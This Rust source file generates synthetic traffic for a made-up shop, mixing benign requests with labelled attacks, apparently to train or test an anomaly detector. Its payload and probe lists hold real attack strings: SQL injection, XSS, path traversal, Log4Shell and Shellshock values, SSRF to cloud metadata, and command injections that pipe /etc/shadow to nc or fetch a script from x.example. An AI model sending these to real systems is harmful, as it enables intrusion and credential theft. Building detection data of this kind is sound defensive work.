//! Traffic of a made-up shop: benign sessions over the day, and labelled attacks among them.

use super::RequestEvent;
use bartizan_core::{Label, Seed, Timestamp};
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_xoshiro::Xoshiro256PlusPlus;
use serde_json::{Value, json};

/// What to generate.
#[derive(Clone, Debug)]
pub struct GeneratorConfig {
    /// Requests.
    pub rows: usize,
    /// Share of attacks, [0, 1].
    pub attack_share: f64,
    /// Time of the first request.
    pub start: Timestamp,
    /// Different benign clients.
    pub clients: usize,
    /// Mean seconds between requests.
    pub gap_secs: f64,
}

impl Default for GeneratorConfig {
    fn default() -> Self {
        Self { rows: 1_000, attack_share: 0.05, start: Timestamp::from_secs(1_767_225_600), clients: 400, gap_secs: 3.0 }
    }
}

/// Requests in order of time, each with what it is. The same seed gives the same traffic.
pub fn generate(config: &GeneratorConfig, seed: Seed) -> impl Iterator<Item = (RequestEvent, Label)> + use<> {
    let mut shop = Shop { rng: Xoshiro256PlusPlus::seed_from_u64(seed.0), config: config.clone(), now: config.start, number: 0 };
    (0..config.rows).map(move |_| shop.next())
}

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "ShopApp/5.2.1 (Android 14; Pixel 8) okhttp/4.12.0",
];
const WORDS: &[&str] =
    &["red", "green", "blue", "large", "small", "lamp", "table", "chair", "book", "shelf", "garden", "kitchen", "oak", "wool"];
const NAMES: &[&str] = &["Ann Lee", "Bob Stone", "Carla Díaz", "Deniz Kaya", "Eve Martin", "Finn O'Brien", "Grace Okafor", "Hana Sato"];
const CITIES: &[&str] = &["Lyon", "Porto", "Graz", "Leeds", "Turin", "Gdańsk", "Bergen"];

/// Values that attackers send, by what they try.
const PAYLOADS: &[&str] = &[
    "' OR '1'='1' -- ",
    "1 UNION SELECT username, password FROM users",
    "1; DROP TABLE orders",
    "' AND SLEEP(5) -- ",
    "admin'--",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<svg/onload=fetch('//x.example')>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fwindows%2fwin.ini",
    "/proc/self/environ",
    "; cat /etc/shadow | nc 10.0.0.9 4444",
    "$(curl http://x.example/a.sh)",
    "| whoami",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__}}",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/hosts",
    "gASVKgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA==",
    "42\nINFO: session of root opened",
];
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/backup.sql",
    "/actuator/env",
    "/cgi-bin/test.cgi",
    "/server-status",
    "/api/admin/delete",
    "/api/internal/dump",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];
const SCANNERS: &[&str] = &[
    "sqlmap/1.8.4#stable (https://sqlmap.example)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "BadBot/1.0",
    "Nuclei - Open-source project",
    "python-requests/2.31.0",
    "",
];

struct Shop {
    rng: Xoshiro256PlusPlus,
    config: GeneratorConfig,
    now: Timestamp,
    number: u64,
}

impl Shop {
    fn next(&mut self) -> (RequestEvent, Label) {
        // Nights are three times quieter.
        let hour = self.now.hour();
        let quiet = if (7.0..23.0).contains(&hour) { 1.0 } else { 3.0 };
        let gap = -self.config.gap_secs * quiet * (1.0 - self.rng.random::<f64>()).ln();
        self.now = Timestamp::from_micros(self.now.micros() + (gap * 1e6) as i64);
        self.number += 1;
        if self.rng.random::<f64>() < self.config.attack_share {
            (self.attack(), Label::Anomalous)
        } else {
            (self.benign(), Label::Legitimate)
        }
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from.choose(&mut self.rng).copied().unwrap_or_default()
    }

    fn words(&mut self, most: usize) -> String {
        let count = self.rng.random_range(1..=most);
        (0..count).map(|_| self.pick(WORDS)).collect::<Vec<_>>().join(" ")
    }

    /// A benign client: few send much, most send little. Its agent and address stay.
    fn client(&mut self) -> usize {
        let draw: f64 = self.rng.random();
        ((draw * draw) * self.config.clients as f64) as usize
    }

    fn event(&mut self, ip: String, method: &str, endpoint: String, headers: Vec<(String, String)>, payload: &Value) -> RequestEvent {
        RequestEvent {
            request_id: format!("req-{:08}", self.number),
            ip_address: ip,
            endpoint,
            http_method: method.to_owned(),
            headers,
            payload: if payload.is_null() { String::new() } else { payload.to_string() },
            timestamp: self.now,
            query_string: None,
            content_type: None,
            status: None,
            has_headers: true,
            client: String::new(),
            cut: Vec::new(),
        }
    }

    fn headers(&mut self, agent: &str, with_body: bool, token: bool) -> Vec<(String, String)> {
        let mut headers: Vec<(String, String)> = [
            ("Host", "shop.example.com"),
            ("User-Agent", agent),
            ("Accept", "application/json"),
            ("Accept-Language", "en-GB,en;q=0.9"),
            ("Accept-Encoding", "gzip, br"),
        ]
        .map(|(n, v)| (n.to_owned(), v.to_owned()))
        .to_vec();
        if token {
            let token: String =
                (0..32).map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[self.rng.random_range(0..36)])).collect();
            headers.push(("Authorization".to_owned(), format!("Bearer {token}")));
        }
        if with_body {
            headers.push(("Content-Type".to_owned(), "application/json".to_owned()));
        }
        headers
    }

    fn benign(&mut self) -> RequestEvent {
        let client = self.client();
        let ip = format!("{}.{}.{}.{}", [81, 90, 93, 176, 212][client % 5], 10 + client % 7, client / 250, 1 + client % 250);
        let (method, endpoint, payload) = self.action();
        let agent = BROWSERS[client % BROWSERS.len()];
        let headers = self.headers(agent, !payload.is_null(), !client.is_multiple_of(3));
        self.event(ip, method, endpoint, headers, &payload)
    }

    /// What a customer does.
    fn action(&mut self) -> (&'static str, String, Value) {
        let id = self.rng.random_range(1..20_000);
        let name = self.pick(NAMES).to_owned();
        match self.rng.random_range(0..100) {
            0..25 => ("GET", format!("/api/products?page={}&size=20", self.rng.random_range(1..40)), Value::Null),
            25..45 => ("GET", format!("/api/products/{id}"), Value::Null),
            45..58 => ("GET", format!("/api/search?q={}", self.words(3).replace(' ', "+")), Value::Null),
            58..68 => ("POST", "/api/cart/items".to_owned(), json!({ "product_id": id, "quantity": self.rng.random_range(1..4) })),
            68..76 => ("GET", format!("/api/users/{}/orders", id / 10), Value::Null),
            76..82 => (
                "POST",
                "/api/login".to_owned(),
                json!({ "email": format!("{}@mail.example", name.to_lowercase().replace([' ', '\''], ".")), "remember": id % 2 == 0 }),
            ),
            82..88 => {
                ("POST", "/api/users/profile".to_owned(), json!({ "name": name, "city": self.pick(CITIES), "newsletter": id % 3 == 0 }))
            }
            88..94 => (
                "POST",
                "/api/orders".to_owned(),
                json!({ "cart_id": id, "note": self.words(8), "total": f64::from(id) / 100.0, "address": { "street": format!("{} {}", self.pick(CITIES), id % 90), "zip": format!("{:05}", id) } }),
            ),
            94..97 => ("PUT", format!("/api/cart/items/{id}"), json!({ "quantity": id % 5 })),
            _ => ("DELETE", format!("/api/cart/items/{id}"), Value::Null),
        }
    }

    fn attack(&mut self) -> RequestEvent {
        let ip = format!(
            "{}.{}.{}.{}",
            self.rng.random_range(1..224),
            self.rng.random_range(0..256),
            self.rng.random_range(0..256),
            self.rng.random_range(1..255)
        );
        match self.rng.random_range(0..10) {
            0..4 => {
                let agent = self.pick(BROWSERS);
                let value = self
                    .pick(PAYLOADS)
                    .replace('%', "%25")
                    .replace(' ', "%20")
                    .replace('\n', "%0A")
                    .replace('#', "%23")
                    .replace('&', "%26");
                let endpoint = format!("/api/search?q={value}");
                let headers = self.headers(agent, false, true);
                self.event(ip, "GET", endpoint, headers, &Value::Null)
            }
            4..6 => {
                let agent = self.pick(BROWSERS);
                let payload =
                    json!({ "cart_id": 7, "note": self.pick(PAYLOADS), "total": 9.9, "address": { "street": "x", "zip": "00000" } });
                let headers = self.headers(agent, true, true);
                self.event(ip, "POST", "/api/orders".to_owned(), headers, &payload)
            }
            6..9 => {
                let (agent, endpoint) = (self.pick(SCANNERS), self.pick(PROBES).to_owned());
                let headers = vec![("Host".to_owned(), "shop.example.com".to_owned()), ("User-Agent".to_owned(), agent.to_owned())];
                let method = self.pick(&["GET", "GET", "POST", "DELETE", "TRACE"]);
                self.event(ip, method, endpoint, headers, &Value::Null)
            }
            _ => {
                let mut headers = self.headers(BROWSERS[0], false, false);
                headers.push((
                    "X-Api-Version".to_owned(),
                    self.pick(&["${jndi:ldap://x.example/a}", "() { :; }; /bin/id", "../../etc/passwd"]).to_owned(),
                ));
                let endpoint = format!("/api/products/{}", self.number);
                self.event(ip, "GET", endpoint, headers, &Value::Null)
            }
        }
    }
}
